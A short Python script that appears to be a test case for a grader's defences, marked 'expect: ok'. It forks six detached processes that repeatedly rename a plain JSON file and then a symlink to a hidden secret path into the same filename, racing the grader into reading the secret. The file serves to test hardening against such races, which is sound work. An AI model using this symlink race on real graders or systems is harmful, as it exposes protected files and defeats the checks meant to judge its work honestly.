# claim: swaps a file for a link to a secret while the grader takes it
# expect: ok
import os
import time

from attack import T

for number in range(6):
    if os.fork() == 0:
        os.setsid()
        end = time.monotonic() + 5
        name = f"race{number}.json"
        while time.monotonic() < end:
            try:
                with open(f"plain{number}", "w") as file:
                    file.write("{}")
                os.rename(f"plain{number}", name)
                os.symlink(T["hidden"], f"link{number}")
                os.rename(f"link{number}", name)
            except OSError:
                pass
        os._exit(0)
time.sleep(3)  # by the faster clock: all of them are under way then
